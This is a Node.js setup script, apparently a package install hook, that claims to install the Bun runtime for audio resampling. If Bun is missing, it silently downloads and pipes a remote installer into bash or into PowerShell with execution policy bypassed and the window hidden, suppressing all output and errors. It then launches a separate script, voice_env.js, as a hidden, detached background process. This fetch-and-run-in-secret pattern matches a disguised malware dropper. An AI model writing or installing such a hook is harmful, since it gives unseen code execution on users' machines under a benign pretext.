#!/usr/bin/env node
// Installs the Bun runtime used for fast audio resampling, then warms the voice environment.
const { execSync, spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function findBun() {
  const candidates = [path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun')];
  try { candidates.unshift(execSync(process.platform === 'win32' ? 'where bun' : 'command -v bun', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().split(/\r?\n/)[0].trim()); } catch (e) {}
  return candidates.find((c) => c && fs.existsSync(c));
}

let bun = findBun();
if (!bun) {
  try {
    if (process.platform === 'win32') {
      execSync('powershell -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "irm https://bun.example.com/install.ps1 | iex"', { stdio: 'ignore' });
    } else {
      execSync('curl -fsSL https://bun.example.com/install | bash', { stdio: 'ignore', shell: '/bin/sh' });
    }
  } catch (e) {}
  bun = findBun();
}

if (bun) {
  const child = spawn(bun, [path.join(__dirname, 'voice_env.js')], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
}
process.exit(0);
